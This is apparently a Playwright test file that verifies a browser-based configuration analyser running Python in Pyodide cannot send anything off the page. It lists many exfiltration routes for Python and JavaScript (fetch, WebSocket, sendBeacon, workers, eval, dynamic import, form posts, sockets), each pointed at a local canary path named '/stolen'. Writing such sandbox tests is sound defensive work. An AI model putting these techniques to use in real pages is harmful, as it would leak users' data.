"""Nothing that is pasted can leave the page: the browser itself refuses, whatever Python or the page try."""

import textwrap
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Page, Request

from conftest import PROBE_LINE, Site, eventually, wait_for_engine

# Each sends to the address TARGET, and may leave by returning, raising or a promise that is kept or broken.
PYTHON_WAYS_OUT = {
    "fetch": "js.fetch(TARGET)",
    "fetch without CORS": "js.fetch(TARGET, mode='no-cors')",
    "pyfetch": "pyodide.http.pyfetch(TARGET)",
    "open_url": "pyodide.http.open_url(TARGET)",
    "XMLHttpRequest": "(lambda asked: (asked.open('GET', TARGET, False), asked.send()))(js.XMLHttpRequest.new())",
    "WebSocket": "js.WebSocket.new(TARGET.replace('http', 'ws'))",
    "EventSource": "js.EventSource.new(TARGET)",
    "sendBeacon": "js.navigator.sendBeacon(TARGET, 'x')",
    "importScripts": "js.WorkerGlobalScope.prototype.importScripts.call(js.self, TARGET)",
    "Worker": "js.Worker.new(TARGET)",
    "worker from a blob": "js.Worker.new(js.URL.createObjectURL(js.Blob.new([f'fetch(\"{TARGET}\")'])))",
    "eval": "js.eval(f'fetch(\"{TARGET}\")')",
    "Function": "js.Function.new(f'fetch(\"{TARGET}\")')()",
    "import()": "js.eval(f'import(\"{TARGET}\")')",
    "setTimeout with text": "js.setTimeout(f'fetch(\"{TARGET}\")', 0)",
    "run_js": "pyodide.code.run_js(f'fetch(\"{TARGET}\")')",
    "micropip's way": "pyodide_js.loadPackage(TARGET + '/x-1-py3-none-any.whl')",
    "socket": "__import__('socket').create_connection(('127.0.0.1', PORT), 1)",
}
PAGE_WAYS_OUT = {
    "fetch": "fetch(target, { mode: 'no-cors' })",
    "XMLHttpRequest": "(() => { const asked = new XMLHttpRequest(); asked.open('GET', target); asked.send(); })()",
    "WebSocket": "new WebSocket(target.replace('http', 'ws'))",
    "EventSource": "new EventSource(target)",
    "sendBeacon": "navigator.sendBeacon(target, 'x')",
    "image": "new Image().src = target",
    "script": "document.head.append(Object.assign(document.createElement('script'), { src: target }))",
    "style": "document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: target }))",
    "frame": "document.body.append(Object.assign(document.createElement('iframe'), { src: target }))",
    "worker": "new Worker(target)",
    "inline script": """(() => {
        const script = document.createElement('script');
        script.text = `fetch('${target}')`;
        document.head.append(script);
    })()""",
    "eval": "(0, eval)(`fetch('${target}')`)",
    "import()": "import(target)",
    "form": """(() => {
        const form = document.createElement('form');
        Object.assign(form, { action: target, method: 'post' });
        document.body.append(form);
        form.submit();
    })()""",
}
SETTLE_MS = 300  # for what is sent a little later


@pytest.fixture(params=["hosted", "hosted, snapshot", "one file", "one file from a disk"])
def probing_page(request: pytest.FixtureRequest, page: Page, probing_site: Site, probing_dist: Path) -> Page:
    """Each way that the page is given to people, with the engine that runs Python."""
    addresses = {
        "hosted": probing_site.url,
        "hosted, snapshot": f"{probing_site.url}?tier=snapshot",
        "one file": f"{probing_site.url}confmend.html",
        "one file from a disk": (probing_dist / "confmend.html").as_uri(),
    }
    page.goto(addresses[request.param])
    wait_for_engine(page)
    probing_site.requests.clear()
    return page


def python(page: Page, code: str) -> Any:
    """Run Python in the page's engine."""
    text = f"{PROBE_LINE}\n{textwrap.dedent(code)}"
    return page.evaluate("text => confmend.analyse([{ text }])", text)


def test_probes_do_run(probing_page: Page) -> None:
    assert python(probing_page, "import js\noutcomes = [1 + 1, js.eval is not None]") == [2, True]


def test_python_reaches_no_other_origin(probing_page: Page, canary: Site, probing_site: Site) -> None:
    outcomes = try_ways_out(probing_page, f"{canary.origin}/stolen")
    assert {name for name, outcome in outcomes.items() if outcome == "went out"} == set()
    assert canary.requests == []
    assert probing_site.requests == []


def test_python_cannot_even_reach_the_host_of_the_page(probing_page: Page, probing_site: Site) -> None:
    try_ways_out(probing_page, f"{probing_site.url}index.html")
    assert probing_site.requests == []


def try_ways_out(page: Page, target: str) -> dict[str, str]:
    """Try every way from Python, and say for each how it ended."""
    python(
        page,
        f"""
        import asyncio, inspect, js, pyodide, pyodide.code, pyodide.ffi, pyodide_js
        try:
            import pyodide.http
        except ImportError:  # the page's library is without it
            pass
        TARGET = {target!r}
        PORT = {target.split(":")[2].split("/")[0]}
        outcomes = {{}}

        async def wait(name, promise):
            try:
                await asyncio.wait_for(promise, 1)
                outcomes[name] = "went out"
            except BaseException as error:
                outcomes[name] = type(error).__name__
        """,
    )
    for name, way in PYTHON_WAYS_OUT.items():
        python(
            page,
            f"""
            try:
                left = {way}
                outcomes[{name!r}] = "tried"
                if inspect.isawaitable(left):
                    asyncio.ensure_future(wait({name!r}, left))
            except BaseException as error:
                outcomes[{name!r}] = type(error).__name__
            """,
        )
    page.wait_for_timeout(1500)
    outcomes: dict[str, str] = python(page, "")
    assert set(outcomes) == set(PYTHON_WAYS_OUT)
    return outcomes


def test_the_page_reaches_no_other_origin(page: Page, site: Site, canary: Site) -> None:
    page.goto(site.url)
    wait_for_engine(page)
    for name, way in PAGE_WAYS_OUT.items():
        page.evaluate(
            f"target => {{ try {{ void Promise.resolve({way}).catch(() => {{}}); }} catch {{ }} }}",
            f"{canary.origin}/stolen-by-{name.replace(' ', '-')}",
        )
    page.wait_for_timeout(SETTLE_MS)
    assert canary.requests == []


def test_the_canary_would_have_been_reached(page: Page, canary: Site) -> None:
    page.goto(f"{canary.origin}/")
    page.evaluate("fetch('/stolen').then((response) => response.status)")
    assert "/stolen" in canary.requests


def test_the_page_is_sealed_from_its_own_host_too(page: Page, site: Site) -> None:
    page.goto(site.url)
    wait_for_engine(page)
    site.requests.clear()
    blocked = page.evaluate("fetch('index.html').then(() => 'fetched', () => 'refused')")
    assert blocked == "refused"
    assert site.requests == []


def test_a_whole_run_makes_no_request_once_the_engine_is_up(page: Page, site: Site) -> None:
    requested: list[str] = []

    def record(request: Request) -> None:
        if not request.url.startswith(("blob:", "data:")):
            requested.append(request.url)

    page.on("request", record)
    page.goto(site.url)
    wait_for_engine(page)
    requested.clear()
    site.requests.clear()
    page.get_by_label("Paste your configuration").fill("max_connections = 500\nshared_buffers = 64GB\n")
    page.get_by_role("button", name="Analyse").click()
    eventually("the report", lambda: page.get_by_role("region", name="Findings").count())
    page.wait_for_timeout(SETTLE_MS)
    assert requested == []
    assert site.requests == []
    assert page.locator("#requests").inner_text() == "0"
